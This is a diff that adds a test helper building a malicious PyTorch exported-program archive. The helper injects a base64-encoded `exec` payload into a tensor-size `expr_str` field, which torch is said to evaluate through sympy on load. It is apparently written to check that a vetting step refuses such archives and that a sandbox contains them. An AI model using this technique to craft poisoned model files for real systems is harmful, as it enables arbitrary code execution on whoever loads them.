@@ -44,6 +44,32 @@ def program_bytes(in_features: int = 8, out_features: int = 4, seed: int = 0) ->
     return buffer.getvalue()
 
 
+def code_running_program(script: str) -> bytes:
+    """An attack sample: the MLP program with one `expr_str` that runs `script` when torch loads it.
+
+    torch 2.13 hands `expr_str` to sympy, which evaluates it; vetting must refuse this archive, and
+    with vetting off the sandbox must contain it (tests/integration/execution/test_sandbox.py).
+    """
+    import base64
+    import json
+    import zipfile
+
+    encoded = base64.b64encode(script.encode()).decode()
+    payload = f"__import__('builtins').exec(__import__('base64').b64decode('{encoded}').decode())"
+    source = zipfile.ZipFile(io.BytesIO(program_bytes()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as dest:
+        for info in source.infolist():
+            content = source.read(info)
+            if info.filename.endswith("models/model.json"):
+                model = json.loads(content)
+                sizes = model["graph_module"]["graph"]["tensor_values"]["input"]["sizes"]
+                sizes[0]["as_expr"]["expr_str"] = payload
+                content = json.dumps(model).encode()
+            dest.writestr(info, content)
+    return out.getvalue()
+
+
 def tensors_bytes(rows: int = 64, in_features: int = 8, name: str = "input", seed: int = 1) -> bytes:
     import torch
 
